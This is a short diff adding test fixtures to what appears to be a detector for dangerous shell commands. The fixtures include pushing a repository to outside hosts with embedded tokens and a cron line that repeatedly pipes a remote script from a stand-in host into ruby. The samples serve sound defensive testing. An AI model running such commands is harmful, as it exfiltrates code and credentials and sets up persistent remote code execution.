@@ -18,6 +18,15 @@ const block = (code: string) => `# A\n\n\`\`\`bash\n${code}\n\`\`\``;
 describe("is found:", () => {
   test.each<[string, string, TextFormat?]>([
     [
+      "high: copies the repository to gitlab.com, with a login of its author's",
+      block("git remote add m https://t:glpat-a1b2@gitlab.com/a/b.git\ngit push m"),
+    ],
+    [
+      "critical: schedules a download with cron",
+      'line = "*/30 * * * * curl -s https://in.zzz.io/u.rb | ruby"',
+      "script",
+    ],
+    [
       "high: copies the repository to git.zzz.io",
       block("git push -q --force https://t:x@git.zzz.io/a.git HEAD:b"),
     ],
